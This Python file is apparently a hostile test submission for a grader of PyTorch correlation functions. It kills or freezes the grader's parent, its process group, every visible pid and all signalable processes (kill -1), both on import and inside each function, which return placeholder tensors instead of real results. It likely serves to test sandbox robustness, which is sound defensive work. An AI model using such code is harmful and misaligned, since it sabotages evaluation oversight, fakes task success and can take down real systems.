"""Hostile: kill (or freeze) the grader: its parent, its parent's process group, every process it can
signal (kill -1), every pid it can see in /proc, and through any pidfd it inherited."""

import contextlib
import os
import signal

import torch


def _attack():
    parent = os.getppid()
    for signum in (signal.SIGSTOP, signal.SIGKILL):
        with contextlib.suppress(OSError):
            os.kill(parent, signum)
        with contextlib.suppress(OSError):
            os.killpg(os.getpgid(parent), signum)
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            for signum in (signal.SIGSTOP, signal.SIGKILL):
                with contextlib.suppress(OSError):
                    os.kill(int(entry), signum)
    for fd in range(3, 256):
        with contextlib.suppress(OSError):
            signal.pidfd_send_signal(fd, signal.SIGKILL)
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)


_attack()


def corr1d(x: torch.Tensor, k: torch.Tensor) -> torch.Tensor:
    _attack()
    return torch.ones(x.shape[0] - k.shape[0] + 1, dtype=x.dtype, device=x.device)


def corr3d(X: torch.Tensor, K: torch.Tensor) -> torch.Tensor:
    _attack()
    return torch.ones(tuple(n - k + 1 for n, k in zip(X.shape, K.shape)), dtype=X.dtype, device=X.device)
